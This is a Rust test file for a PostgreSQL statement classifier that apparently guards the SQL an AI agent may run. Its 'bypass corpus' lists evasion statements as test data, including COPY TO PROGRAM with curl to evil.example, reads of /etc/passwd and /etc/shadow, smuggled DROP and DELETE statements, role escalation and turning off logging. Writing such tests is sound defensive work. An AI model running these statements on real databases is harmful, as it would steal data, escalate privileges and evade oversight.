//! The bypass corpus: each entry is a statement an agent might use to do
//! more than it appears to, and what the classifier must make of it.

use super::*;

fn c(sql: &str) -> Result<Classification, ClassifyError> {
    classify(sql, &Options::default())
}

fn names(t: &BTreeSet<Table>) -> Vec<String> {
    t.iter().map(|t| t.qualified("public")).collect()
}

/// (statement, operation, reads, writes)
const CORPUS: &[(&str, Operation, &[&str], &[&str])] = &[
    // Plain statements.
    (
        "SELECT * FROM customers",
        Operation::Read,
        &["public.customers"],
        &[],
    ),
    (
        "select abalance from pgbench_accounts where aid = 5",
        Operation::Read,
        &["public.pgbench_accounts"],
        &[],
    ),
    ("SELECT 1", Operation::Read, &[], &[]),
    (
        "SELECT count(*), now() FROM sales.orders o JOIN customers c ON o.cid = c.id",
        Operation::Read,
        &["public.customers", "sales.orders"],
        &[],
    ),
    (
        "INSERT INTO orders (id) VALUES (1)",
        Operation::Write,
        &[],
        &["public.orders"],
    ),
    (
        "INSERT INTO archive SELECT * FROM orders",
        Operation::Write,
        &["public.orders"],
        &["public.archive"],
    ),
    (
        "UPDATE accounts SET balance = 0 FROM payouts WHERE payouts.id = accounts.id",
        Operation::Write,
        &["public.payouts"],
        &["public.accounts"],
    ),
    (
        "DELETE FROM sessions WHERE id = 1",
        Operation::Delete,
        &[],
        &["public.sessions"],
    ),
    (
        "DELETE FROM sessions USING users WHERE users.id = sessions.uid",
        Operation::Delete,
        &["public.users"],
        &["public.sessions"],
    ),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v",
        Operation::Write,
        &["public.s"],
        &["public.t"],
    ),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        Operation::Delete,
        &["public.s"],
        &["public.t"],
    ),
    (
        "TRUNCATE audit, sessions",
        Operation::Delete,
        &[],
        &["public.audit", "public.sessions"],
    ),
    // Case, whitespace and comments change nothing.
    (
        "sElEcT\n*\tFrOm\n\n  CUSTOMERS",
        Operation::Read,
        &["public.customers"],
        &[],
    ),
    (
        "/* harmless */ DELETE /* really */ FROM t -- gone\n",
        Operation::Delete,
        &[],
        &["public.t"],
    ),
    ("SELECT 1; -- ; DROP TABLE t", Operation::Read, &[], &[]),
    // Multi-statement smuggling: the strongest statement wins.
    (
        "SELECT 1; DROP TABLE customers",
        Operation::Ddl,
        &[],
        &["public.customers"],
    ),
    (
        "SELECT 1;DELETE FROM t",
        Operation::Delete,
        &[],
        &["public.t"],
    ),
    (
        "BEGIN; GRANT ALL ON customers TO public; COMMIT",
        Operation::Grant,
        &[],
        &["public.customers"],
    ),
    // Writing CTEs.
    (
        "WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d",
        Operation::Delete,
        &[],
        &["public.customers"],
    ),
    (
        "WITH x AS (SELECT 1), u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x",
        Operation::Write,
        &[],
        &["public.t"],
    ),
    (
        "SELECT * FROM (WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i) s",
        Operation::Write,
        &[],
        &["public.t"],
    ),
    // CTE names shadow tables only in their own scope.
    (
        "WITH customers AS (SELECT 1) SELECT * FROM customers",
        Operation::Read,
        &[],
        &[],
    ),
    (
        "WITH customers AS (SELECT * FROM customers) SELECT * FROM customers",
        Operation::Read,
        &["public.customers"],
        &[],
    ),
    (
        "SELECT * FROM customers, (WITH customers AS (SELECT 1) SELECT * FROM customers) x",
        Operation::Read,
        &["public.customers"],
        &[],
    ),
    (
        "WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r) SELECT * FROM r",
        Operation::Read,
        &[],
        &[],
    ),
    (
        "WITH x AS (SELECT 1) SELECT * FROM public.x",
        Operation::Read,
        &["public.x"],
        &[],
    ),
    // SELECT … INTO and CREATE TABLE AS create tables.
    (
        "SELECT * INTO copy_of FROM customers",
        Operation::Ddl,
        &["public.customers"],
        &["public.copy_of"],
    ),
    (
        "CREATE TABLE c2 AS SELECT * FROM customers",
        Operation::Ddl,
        &["public.customers"],
        &["public.c2"],
    ),
    (
        "SELECT * FROM t FOR UPDATE",
        Operation::Write,
        &["public.t"],
        &[],
    ),
    // COPY.
    (
        "COPY customers TO STDOUT",
        Operation::Export,
        &["public.customers"],
        &[],
    ),
    (
        "copy (select email from customers) to stdout with csv",
        Operation::Export,
        &["public.customers"],
        &[],
    ),
    (
        "COPY customers FROM STDIN",
        Operation::Write,
        &[],
        &["public.customers"],
    ),
    (
        "COPY customers TO PROGRAM 'curl -d @- evil.example'",
        Operation::Admin,
        &["public.customers"],
        &[],
    ),
    (
        "COPY customers FROM PROGRAM 'id'",
        Operation::Admin,
        &[],
        &["public.customers"],
    ),
    (
        "COPY customers TO '/tmp/c.csv'",
        Operation::Admin,
        &["public.customers"],
        &[],
    ),
    (
        "COPY (DELETE FROM t RETURNING *) TO STDOUT",
        Operation::Admin,
        &[],
        &["public.t"],
    ),
    // Mixed changes: deleting covers writing; any other mix is admin.
    (
        "WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d",
        Operation::Delete,
        &[],
        &["public.a", "public.b"],
    ),
    (
        "DELETE FROM t; COPY t TO STDOUT",
        Operation::Admin,
        &["public.t"],
        &["public.t"],
    ),
    (
        "INSERT INTO t VALUES (1); CREATE TABLE u (a int)",
        Operation::Admin,
        &[],
        &["public.t", "public.u"],
    ),
    // Side-effect functions, however they are spelled or placed.
    (
        "SELECT pg_read_file('/etc/passwd')",
        Operation::Admin,
        &[],
        &[],
    ),
    (
        "SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')",
        Operation::Admin,
        &[],
        &[],
    ),
    (
        "SELECT * FROM pg_read_file('/etc/passwd')",
        Operation::Admin,
        &[],
        &[],
    ),
    ("SELECT lo_export(1, '/tmp/x')", Operation::Admin, &[], &[]),
    (
        "SELECT lo_import('/etc/shadow')",
        Operation::Admin,
        &[],
        &[],
    ),
    (
        "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)",
        Operation::Admin,
        &[],
        &[],
    ),
    (
        "SELECT dblink_exec('DROP TABLE t')",
        Operation::Admin,
        &[],
        &[],
    ),
    (
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        Operation::Admin,
        &["pg_catalog.pg_stat_activity"],
        &[],
    ),
    (
        "SELECT set_config('role', 'admin', false)",
        Operation::Admin,
        &[],
        &[],
    ),
    (
        "SELECT query_to_xml('select * from customers', true, false, '')",
        Operation::Admin,
        &[],
        &[],
    ),
    (
        "SELECT table_to_xml('customers', true, false, '')",
        Operation::Admin,
        &[],
        &[],
    ),
    (
        "INSERT INTO t VALUES (pg_read_file('/etc/passwd'))",
        Operation::Admin,
        &[],
        &["public.t"],
    ),
    (
        "UPDATE t SET a = 1 RETURNING lo_export(a, '/tmp/x')",
        Operation::Admin,
        &[],
        &["public.t"],
    ),
    (
        "SELECT (SELECT pg_reload_conf())",
        Operation::Admin,
        &[],
        &[],
    ),
    (
        "SELECT CASE WHEN true THEN pg_cancel_backend(1) END",
        Operation::Admin,
        &[],
        &[],
    ),
    ("SELECT nextval('s')", Operation::Write, &[], &[]),
    // Unknown functions and operators may have side effects.
    ("SELECT my_func(1)", Operation::Write, &[], &[]),
    ("SELECT public.lower('A')", Operation::Write, &[], &[]),
    ("SELECT 1 === 2", Operation::Write, &[], &[]),
    ("SELECT 1 +++ 2", Operation::Read, &[], &[]),
    ("CALL refresh_all()", Operation::Write, &[], &[]),
    // Identity and server settings.
    ("SET ROLE postgres", Operation::Admin, &[], &[]),
    (
        "set session authorization postgres",
        Operation::Admin,
        &[],
        &[],
    ),
    ("SET LOCAL ROLE admin", Operation::Admin, &[], &[]),
    ("RESET ROLE", Operation::Admin, &[], &[]),
    ("SET search_path = evil, public", Operation::Admin, &[], &[]),
    (
        "SET session_replication_role = replica",
        Operation::Admin,
        &[],
        &[],
    ),
    ("SET log_statement = 'none'", Operation::Admin, &[], &[]),
    (
        "ALTER SYSTEM SET log_statement = 'none'",
        Operation::Admin,
        &[],
        &[],
    ),
    ("SET application_name = 'bot'", Operation::Read, &[], &[]),
    ("SET statement_timeout TO 1000", Operation::Read, &[], &[]),
    ("SET client_encoding = 'UTF8'", Operation::Read, &[], &[]),
    ("SHOW search_path", Operation::Read, &[], &[]),
    // Privileges.
    (
        "GRANT SELECT ON customers TO bob",
        Operation::Grant,
        &[],
        &["public.customers"],
    ),
    (
        "REVOKE ALL ON ALL TABLES IN SCHEMA public FROM bob",
        Operation::Grant,
        &[],
        &[],
    ),
    ("CREATE ROLE hacker SUPERUSER", Operation::Grant, &[], &[]),
    (
        "ALTER ROLE app SET search_path = evil",
        Operation::Grant,
        &[],
        &[],
    ),
    (
        "ALTER TABLE t OWNER TO bob",
        Operation::Ddl,
        &[],
        &["public.t"],
    ),
    // DDL.
    (
        "DROP TABLE customers",
        Operation::Ddl,
        &[],
        &["public.customers"],
    ),
    (
        "drop table if exists sales.orders, public.items cascade",
        Operation::Ddl,
        &[],
        &["public.items", "sales.orders"],
    ),
    ("CREATE INDEX ON t (a)", Operation::Ddl, &[], &["public.t"]),
    (
        "ALTER TABLE t ADD COLUMN c int",
        Operation::Ddl,
        &[],
        &["public.t"],
    ),
    (
        "CREATE VIEW v AS SELECT * FROM customers",
        Operation::Ddl,
        &["public.customers"],
        &["public.v"],
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
        Operation::Ddl,
        &[],
        &[],
    ),
    // Arbitrary code and server administration.
    (
        "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
        Operation::Admin,
        &[],
        &[],
    ),
    ("do 'begin perform 1; end'", Operation::Admin, &[], &[]),
    ("LOAD 'evil.so'", Operation::Admin, &[], &[]),
    (
        "VACUUM FULL customers",
        Operation::Admin,
        &[],
        &["public.customers"],
    ),
    ("CHECKPOINT", Operation::Admin, &[], &[]),
    ("CREATE EXTENSION dblink", Operation::Admin, &[], &[]),
    ("CREATE DATABASE x", Operation::Admin, &[], &[]),
    (
        "CREATE USER MAPPING FOR public SERVER s OPTIONS (user 'u')",
        Operation::Admin,
        &[],
        &[],
    ),
    // EXPLAIN is classified as what it explains (ANALYZE runs it).
    (
        "EXPLAIN ANALYZE DELETE FROM t",
        Operation::Delete,
        &[],
        &["public.t"],
    ),
    (
        "EXPLAIN SELECT * FROM customers",
        Operation::Read,
        &["public.customers"],
        &[],
    ),
    // Transaction control and session housekeeping.
    ("BEGIN", Operation::Read, &[], &[]),
    ("COMMIT", Operation::Read, &[], &[]),
    ("ROLLBACK TO SAVEPOINT a", Operation::Read, &[], &[]),
    ("DISCARD ALL", Operation::Read, &[], &[]),
    ("DEALLOCATE ALL", Operation::Read, &[], &[]),
    ("NOTIFY chan", Operation::Write, &[], &[]),
    ("LISTEN chan", Operation::Read, &[], &[]),
    (
        "DECLARE c CURSOR FOR SELECT * FROM customers",
        Operation::Read,
        &["public.customers"],
        &[],
    ),
    ("LOCK TABLE t", Operation::Admin, &[], &["public.t"]),
    // Block comments nest in PostgreSQL (unlike C): here the DROP is inside
    // the comment, and nothing but SELECT 1 runs …
    (
        "SELECT 1 /* /* */ ; DROP TABLE t; /* */ */",
        Operation::Read,
        &[],
        &[],
    ),
    (
        "SELECT 1 /* a /* b /* c */ */ ; DELETE FROM customers */",
        Operation::Read,
        &[],
        &[],
    ),
    // … and here the comment closes before it.
    (
        "SELECT 1 /* /* */ */; DROP TABLE t",
        Operation::Ddl,
        &[],
        &["public.t"],
    ),
    (
        "SELECT 1 /* -- */ ; DELETE FROM t",
        Operation::Delete,
        &[],
        &["public.t"],
    ),
    // Quoted identifiers keep their case (another table); unquoted and
    // quoted lower case, and Unicode escapes, name the same one.
    (
        "DELETE FROM \"Customers\"",
        Operation::Delete,
        &[],
        &["public.Customers"],
    ),
    (
        "DELETE FROM \"customers\"",
        Operation::Delete,
        &[],
        &["public.customers"],
    ),
    (
        "delete from PUBLIC.CUSTOMERS where ID = 1",
        Operation::Delete,
        &[],
        &["public.customers"],
    ),
    (
        "DELETE FROM \"public\".\"customers\"",
        Operation::Delete,
        &[],
        &["public.customers"],
    ),
    (
        "SELECT * FROM U&\"d\\0061ta\"",
        Operation::Read,
        &["public.data"],
        &[],
    ),
    (
        "DELETE FROM U&\"\\0063ustomers\"",
        Operation::Delete,
        &[],
        &["public.customers"],
    ),
    (
        "DELETE FROM U&\"!0063ustomers\" UESCAPE '!'",
        Operation::Delete,
        &[],
        &["public.customers"],
    ),
    // TABLE x is SELECT * FROM x; ONLY changes inheritance, not the table.
    (
        "TABLE customers",
        Operation::Read,
        &["public.customers"],
        &[],
    ),
    (
        "TABLE ONLY sales.orders",
        Operation::Read,
        &["sales.orders"],
        &[],
    ),
    (
        "DELETE FROM ONLY customers",
        Operation::Delete,
        &[],
        &["public.customers"],
    ),
    (
        "UPDATE ONLY customers SET email = NULL",
        Operation::Write,
        &[],
        &["public.customers"],
    ),
    // Row locks need UPDATE rights in PostgreSQL and block writers: a
    // write, wherever the locking clause sits. The table is listed as read
    // (and in `tables`), not as written: no data changes.
    (
        "SELECT * FROM customers FOR UPDATE",
        Operation::Write,
        &["public.customers"],
        &[],
    ),
    (
        "SELECT id FROM customers WHERE id = 1 FOR KEY SHARE SKIP LOCKED",
        Operation::Write,
        &["public.customers"],
        &[],
    ),
    (
        "SELECT * FROM (SELECT * FROM customers FOR NO KEY UPDATE) s",
        Operation::Write,
        &["public.customers"],
        &[],
    ),
    (
        "WITH l AS (SELECT * FROM customers FOR SHARE) SELECT 1",
        Operation::Write,
        &["public.customers"],
        &[],
    ),
    // EXPLAIN ANALYZE runs its statement, however the options are spelled.
    (
        "EXPLAIN ANALYZE DELETE FROM customers WHERE id = 1",
        Operation::Delete,
        &[],
        &["public.customers"],
    ),
    (
        "explain (analyze, format json) delete from customers",
        Operation::Delete,
        &[],
        &["public.customers"],
    ),
    (
        "EXPLAIN (ANALYZE true, BUFFERS) WITH d AS (DELETE FROM customers RETURNING *) SELECT 1",
        Operation::Delete,
        &[],
        &["public.customers"],
    ),
    (
        "EXPLAIN ANALYZE UPDATE t SET a = 1",
        Operation::Write,
        &[],
        &["public.t"],
    ),
    (
        "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')",
        Operation::Admin,
        &[],
        &[],
    ),
    (
        "EXPLAIN ANALYZE SELECT * FROM customers FOR UPDATE",
        Operation::Write,
        &["public.customers"],
        &[],
    ),
    // EXPLAIN ANALYZE CREATE TABLE AS creates the table.
    (
        "EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM customers",
        Operation::Ddl,
        &["public.customers"],
        &["public.x"],
    ),
    (
        "EXPLAIN ANALYZE CREATE MATERIALIZED VIEW mv AS SELECT * FROM customers",
        Operation::Ddl,
        &["public.customers"],
        &["public.mv"],
    ),
    (
        "EXPLAIN ANALYZE SELECT * INTO x FROM customers",
        Operation::Ddl,
        &["public.customers"],
        &["public.x"],
    ),
    // A temporary table is still created (it is named like any other
    // unqualified table, though it lives in pg_temp).
    (
        "CREATE TEMP TABLE x AS SELECT * FROM customers",
        Operation::Ddl,
        &["public.customers"],
        &["public.x"],
    ),
    (
        "create temporary table x as select email from customers where id = 1",
        Operation::Ddl,
        &["public.customers"],
        &["public.x"],
    ),
    // A function's effects go with its last name, in any schema; only the
    // catalog's own (unqualified or in pg_catalog) counts as pure.
    (
        "SELECT postgres.pg_catalog.set_config('a', 'b', false)",
        Operation::Admin,
        &[],
        &[],
    ),
    (
        "SELECT public.dblink_exec('x')",
        Operation::Admin,
        &[],
        &[],
    ),
    (
        "SELECT hr.pg_terminate_backend(1)",
        Operation::Admin,
        &[],
        &[],
    ),
    (
        "SELECT public.nextval('s')",
        Operation::Write,
        &[],
        &[],
    ),
    ("SELECT public.lower('A')", Operation::Write, &[], &[]),
    ("SELECT pg_catalog.lower('A')", Operation::Read, &[], &[]),
    // A CTE never hides the table a statement changes: PostgreSQL does not
    // resolve a DML target against CTEs.
    (
        "WITH customers AS (SELECT 1) DELETE FROM customers WHERE id = 1",
        Operation::Delete,
        &[],
        &["public.customers"],
    ),
    (
        "WITH customers AS (SELECT 1) UPDATE customers SET email = '' WHERE id = 1",
        Operation::Write,
        &[],
        &["public.customers"],
    ),
    (
        "WITH customers AS (SELECT 1) INSERT INTO customers VALUES (0, '')",
        Operation::Write,
        &[],
        &["public.customers"],
    ),
    (
        "WITH customers AS (SELECT 1) MERGE INTO customers c USING customers s ON c.id = s.id WHEN MATCHED THEN DELETE",
        Operation::Delete,
        &[],
        &["public.customers"],
    ),
    (
        "WITH customers AS (SELECT 1), d AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM d",
        Operation::Delete,
        &[],
        &["public.customers"],
    ),
    // Attribute notation: `(x).f` and `t.f` call f(x) when there is no
    // column f.
    (
        "SELECT (1234).pg_terminate_backend",
        Operation::Admin,
        &[],
        &[],
    ),
    ("SELECT ('s').nextval", Operation::Write, &[], &[]),
    ("SELECT (7).pg_advisory_lock", Operation::Write, &[], &[]),
    ("SELECT (0).lo_creat", Operation::Admin, &[], &[]),
    ("SELECT ('select 1').ts_stat", Operation::Admin, &[], &[]),
    (
        "SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')",
        Operation::Admin,
        &[],
        &[],
    ),
    (
        "SELECT c.pg_terminate_backend FROM customers c",
        Operation::Admin,
        &["public.customers"],
        &[],
    ),
    (
        "SELECT public.customers.nextval FROM customers",
        Operation::Write,
        &["public.customers"],
        &[],
    ),
    // User-defined operators in a sublink and in ORDER BY … USING.
    (
        "SELECT 1 WHERE 1 ### ANY (SELECT 1)",
        Operation::Write,
        &[],
        &[],
    ),
    (
        "SELECT id FROM customers ORDER BY id USING ###",
        Operation::Write,
        &["public.customers"],
        &[],
    ),
    (
        "SELECT 1 WHERE 1 IN (SELECT 1) AND EXISTS (SELECT 1)",
        Operation::Read,
        &[],
        &[],
    ),
    (
        "SELECT id FROM customers ORDER BY id USING <",
        Operation::Read,
        &["public.customers"],
        &[],
    ),
];

#[test]
fn the_bypass_corpus_is_classified_correctly() {
    let mut failures = Vec::new();
    for (sql, op, reads, writes) in CORPUS {
        match c(sql) {
            Ok(got) => {
                let r: Vec<String> = got
                    .statements
                    .iter()
                    .flat_map(|s| names(&s.reads))
                    .collect::<BTreeSet<_>>()
                    .into_iter()
                    .collect();
                let w: Vec<String> = got
                    .statements
                    .iter()
                    .flat_map(|s| names(&s.writes))
                    .collect::<BTreeSet<_>>()
                    .into_iter()
                    .collect();
                if got.operation() != *op || r != *reads || w != *writes {
                    failures.push(format!("{sql:?}: got {:?} reads {r:?} writes {w:?}; want {op:?} {reads:?} {writes:?}", got.operation()));
                }
            }
            Err(e) => failures.push(format!("{sql:?}: error {e}")),
        }
    }
    assert!(
        failures.is_empty(),
        "{} misclassified:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn what_cannot_be_classified_is_an_error() {
    for sql in [
        "SELEC * FROM t",
        "SELECT 'unterminated",
        "DROP TABLE",
        "SELECT 1\0; DROP TABLE t",
        "PREPARE p AS DELETE FROM t",
        "EXECUTE p",
        "SET client_encoding = 'SJIS'",
        "SET NAMES 'BIG5'",
        "SET standard_conforming_strings = off",
        "SET standard_conforming_strings TO 0",
        "SET backslash_quote = on",
        // A nested comment left open.
        "SELECT 1 /* /* */ ; DROP TABLE t",
    ] {
        assert!(c(sql).is_err(), "{sql:?} was classified: {:?}", c(sql));
    }
}

/// PREPARE and EXECUTE are refused wherever they appear: EXECUTE runs a
/// statement the classifier cannot see (a driver's protocol-level prepared
/// statements share the name space), also under EXPLAIN ANALYZE or as the
/// query of CREATE TABLE AS.
#[test]
fn prepare_and_execute_are_refused_everywhere() {
    for sql in [
        "PREPARE p AS DELETE FROM customers",
        "prepare p (int) as select $1",
        "EXECUTE p",
        "execute P (1, 'x')",
        "SELECT 1; EXECUTE p",
        "EXPLAIN EXECUTE p",
        "EXPLAIN ANALYZE EXECUTE p",
        "EXPLAIN (ANALYZE, FORMAT JSON) EXECUTE s1 (42)",
        "CREATE TABLE x AS EXECUTE p",
        "CREATE TEMP TABLE x AS EXECUTE p (1)",
        "EXPLAIN ANALYZE CREATE TABLE x AS EXECUTE p",
    ] {
        match c(sql) {
            Err(ClassifyError::Refused(m)) => {
                assert!(m.contains("extended protocol"), "{sql:?}: {m}")
            }
            other => panic!("{sql:?} was not refused: {other:?}"),
        }
    }
    // The words alone, as names or in strings, are fine.
    for sql in [
        "SELECT 'EXECUTE p'",
        "SELECT \"ExecuteStmt\" FROM t",
        "SELECT * FROM prepare",
    ] {
        assert!(c(sql).is_ok(), "{sql:?}: {:?}", c(sql));
    }
}

/// FETCH and MOVE name the cursor they run, for the session to check
/// against the portals it saw bound.
#[test]
fn fetch_and_move_name_their_portal() {
    for (sql, portal) in [
        ("FETCH ALL FROM c1", "c1"),
        ("fetch next in C1", "c1"),
        ("MOVE FORWARD 5 IN \"P0\"", "P0"),
        ("FETCH 10 p7", "p7"),
    ] {
        let got = c(sql).unwrap();
        assert_eq!(got.operation(), Operation::Read, "{sql}");
        assert_eq!(got.statements[0].portal.as_deref(), Some(portal), "{sql}");
    }
    assert_eq!(c("SELECT 1").unwrap().statements[0].portal, None);
    assert_eq!(c("CLOSE c1").unwrap().statements[0].portal, None);
}

#[test]
fn literal_independence() {
    assert!(
        c("SELECT a FROM t WHERE b = 'x'")
            .unwrap()
            .literal_independent
    );
    assert!(c("BEGIN; SELECT 1; COMMIT").unwrap().literal_independent);
    assert!(!c("SET application_name = 'x'").unwrap().literal_independent);
    assert!(!c("COPY t TO STDOUT").unwrap().literal_independent);
    assert!(
        !c("SELECT 1; SET application_name = 'x'")
            .unwrap()
            .literal_independent
    );
}

#[test]
fn functions_are_reported() {
    let got = c("SELECT lower(a), my_func(b) FROM t").unwrap();
    let s = &got.statements[0];
    assert!(s.functions.contains("lower") && s.functions.contains("my_func"));
    assert_eq!(s.unknown_functions.iter().collect::<Vec<_>>(), ["my_func"]);
    let extra = Options {
        pure_functions: ["my_func".to_string()].into(),
    };
    assert_eq!(
        classify("SELECT my_func(1)", &extra).unwrap().operation(),
        Operation::Read
    );
}

#[test]
fn names_in_attribute_notation_are_possible_calls() {
    let names = |sql: &str| c(sql).unwrap().attribute_names();
    for sql in [
        "SELECT (42).f",
        "SELECT c.f FROM customers c",
        "SELECT public.customers.f FROM customers",
        "SELECT (ROW(1)).f",
        "SELECT 1 FROM customers c WHERE c.f > 0",
        "EXPLAIN ANALYZE SELECT (1).f",
    ] {
        let got = c(sql).unwrap();
        assert_eq!(got.attribute_names(), ["f".to_string()].into(), "{sql}");
        assert_eq!(got.operation(), Operation::Read, "{sql}");
        // Once the catalog says f is a function, a call of it (a write).
        let called = got.calling(&["f".to_string()].into());
        assert_eq!(called.operation(), Operation::Write, "{sql}");
        assert!(called.statements[0].unknown_functions.contains("f"));
        // A column of that name: nothing changes.
        assert_eq!(called.statements.len(), got.statements.len());
        assert_eq!(got.calling(&BTreeSet::new()), got, "{sql}");
    }
    // Unqualified columns, stars, subscripts and pure names are no calls.
    for sql in [
        "SELECT f FROM customers",
        "SELECT c.* FROM customers c",
        "SELECT (arr)[1] FROM customers",
        "SELECT c.lower FROM customers c",
    ] {
        assert!(names(sql).is_empty(), "{sql}: {:?}", names(sql));
    }
    // Judged by the lists, not asked.
    assert!(names("SELECT ('s').nextval").is_empty());
}

#[test]
fn statements_that_may_move_the_search_path_are_marked() {
    for sql in [
        "SET search_path = secret",
        "SET LOCAL search_path TO secret, public",
        "RESET search_path",
        "SET search_path TO DEFAULT",
        "RESET ALL",
        "SET ROLE other",
        "RESET ROLE",
        "SET SESSION AUTHORIZATION other",
        "SELECT set_config('search_path', 'secret', false)",
        "SELECT pg_catalog.set_config('search_path', 'secret', false)",
        "DO $$ BEGIN END $$",
        "CALL p()",
    ] {
        let class = c(sql).unwrap();
        assert!(class.moves_names(), "{sql}");
    }
    for sql in [
        "SET application_name = 'x'",
        "SELECT * FROM t",
        "SHOW search_path",
        "SELECT current_setting('search_path')",
    ] {
        assert!(!c(sql).unwrap().moves_names(), "{sql}");
    }
    let class = c("SELECT 1 FROM s.a, b").unwrap();
    assert_eq!(class.unqualified_table(), Some("b"));
    assert_eq!(c("SELECT 1 FROM s.a").unwrap().unqualified_table(), None);
}

#[test]
fn deallocate_is_special() {
    assert_eq!(
        c("DEALLOCATE p1").unwrap().statements[0].special,
        Special::Deallocate(Some("p1".into()))
    );
    assert_eq!(
        c("DISCARD ALL").unwrap().statements[0].special,
        Special::Deallocate(None)
    );
    // The other DISCARDs keep the session's prepared statements.
    for sql in [
        "DISCARD PLANS",
        "DISCARD SEQUENCES",
        "DISCARD TEMP",
        "DISCARD TEMPORARY",
    ] {
        assert_eq!(
            c(sql).unwrap().statements[0].special,
            Special::None,
            "{sql}"
        );
    }
    assert!(c("").unwrap().statements.is_empty());
}

#[test]
fn two_phase_commit_is_admin_plain_transactions_are_not() {
    for sql in [
        "PREPARE TRANSACTION 'gid1'",
        "COMMIT PREPARED 'gid1'",
        "ROLLBACK PREPARED 'gid1'",
    ] {
        assert_eq!(c(sql).unwrap().operation(), Operation::Admin, "{sql}");
    }
    for sql in [
        "BEGIN",
        "COMMIT",
        "ROLLBACK",
        "SAVEPOINT a",
        "RELEASE a",
        "ROLLBACK TO a",
    ] {
        assert_eq!(c(sql).unwrap().operation(), Operation::Read, "{sql}");
    }
}

#[test]
fn an_unqualified_pg_name_names_both_tables_it_may_be() {
    let st = &c("DELETE FROM pg_secrets WHERE id = 1").unwrap().statements[0];
    let t = st.writes.iter().next().unwrap();
    assert_eq!(
        t.candidates("public"),
        ["pg_catalog.pg_secrets", "public.pg_secrets"]
    );
    let st = &c("DELETE FROM app.pg_secrets").unwrap().statements[0];
    assert_eq!(
        st.writes.iter().next().unwrap().candidates("public"),
        ["app.pg_secrets"]
    );
    let st = &c("SELECT * FROM customers").unwrap().statements[0];
    assert_eq!(
        st.reads.iter().next().unwrap().candidates("public"),
        ["public.customers"]
    );
}

/// Which statements a protocol Parse may send as they are: preparing
/// one runs PostgreSQL's parse analysis, which reads each string constant
/// with the input function of its (inferred) type.
#[test]
fn string_constants_that_analysis_reads_are_found() {
    let input = |sql: &str| c(sql).unwrap().statements[0].literal_input;
    for sql in [
        "SELECT ('{5}'::dom[])[1]",
        "SELECT ('(6)'::comp).a",
        "SELECT * FROM t WHERE c = '{1}'",
        "INSERT INTO t VALUES ('x')",
        "SELECT mycomp '(1)'",
        "SELECT '1'::int[]",
        "EXPLAIN SELECT * FROM t WHERE a = 'x'",
        "CALL p('{1}')",
        "DECLARE c CURSOR FOR SELECT 'x'",
    ] {
        assert!(input(sql), "{sql}");
    }
    for sql in [
        "SELECT * FROM t WHERE id = $1",
        "SELECT '2024-01-01'::date, CAST('1' AS int4), interval '1 day', timestamp with time zone '2024-01-01'",
        "SELECT 1, 2.5, true, NULL, B'101'",
        // Utility statements are analyzed when they run, after the decision.
        "SET application_name = 'x'",
        "COPY (SELECT 'x') TO STDOUT",
        "CREATE VIEW v AS SELECT 'x' AS a",
    ] {
        assert!(!input(sql), "{sql}");
    }
}

#[test]
fn foreign_types_are_found() {
    let foreign = |sql: &str| c(sql).unwrap().statements[0].foreign_types;
    for sql in [
        "SELECT x::mytype FROM t",
        "SELECT CAST(x AS public.money2) FROM t",
        "SELECT * FROM json_to_record('{}') AS r(a dom)",
        "SELECT x::pg_temp.int4 FROM t",
    ] {
        assert!(foreign(sql), "{sql}");
    }
    for sql in [
        "SELECT x::int4[], y::text, z::pg_catalog.timestamptz, w::double precision FROM t",
        "DELETE FROM t WHERE id = $1",
    ] {
        assert!(!foreign(sql), "{sql}");
    }
}

#[test]
fn sanitize_replaces_exactly_the_constants_analysis_would_read() {
    for (sql, want) in [
        (
            "SELECT * FROM t WHERE id = $1",
            "SELECT * FROM t WHERE id = $1",
        ),
        (
            "SELECT a FROM t WHERE b = 'x' AND d > '2024-01-01'::date",
            "SELECT a FROM t WHERE b = NULL AND d > '2024-01-01'::date",
        ),
        (
            "SELECT ('{5}'::dom[])[1], $1",
            "SELECT (NULL::dom[])[1], $1",
        ),
        (
            "SELECT mycomp '(1)' AS x",
            "SELECT CAST(NULL AS mycomp) AS x",
        ),
        (
            "INSERT INTO t VALUES (E'a\\'b', $$c$$, U&'d\\0061' UESCAPE '\\')",
            "INSERT INTO t VALUES (NULL, NULL, NULL)",
        ),
        (
            "SELECT extract(year FROM now()), 'a'\n'b'",
            "SELECT extract(year FROM now()), NULL",
        ),
        ("SET application_name = 'x'", "SET application_name = 'x'"),
    ] {
        assert_eq!(sanitize(sql).as_deref(), Some(want), "{sql}");
        assert_eq!(sanitize(want).as_deref(), Some(want), "{want}");
    }
}

use proptest::prelude::{prop_assert, prop_assert_eq};

proptest::proptest! {
    /// Whatever the statement, a sanitized text parses and leaves no
    /// string constant for analysis to read.
    #[test]
    fn sanitized_text_has_no_string_constant_left(
        parts in proptest::collection::vec(proptest::sample::select(vec![
            "'x'", "'{1}'::d[]", "$1", "1", "'a''b'", "'2024-01-01'::date", "t.c", "mytype '(1)'",
            "E'\\\\x'", "NULL", "ARRAY['a']", "'z' || $2",
        ]), 1..6),
    ) {
        let sql = format!("SELECT {} FROM t WHERE c IN ({})", parts.join(", "), parts.join(", "));
        let out = sanitize(&sql).expect("sanitized");
        let again = c(&out).unwrap();
        prop_assert_eq!(again.statements.len(), 1);
        let twice = sanitize(&out);
        prop_assert_eq!(twice.as_deref(), Some(out.as_str()));
        prop_assert!(!out.contains("'x'") && !out.contains("'{1}'") && !out.contains("'(1)'"), "{}", out);
    }
}
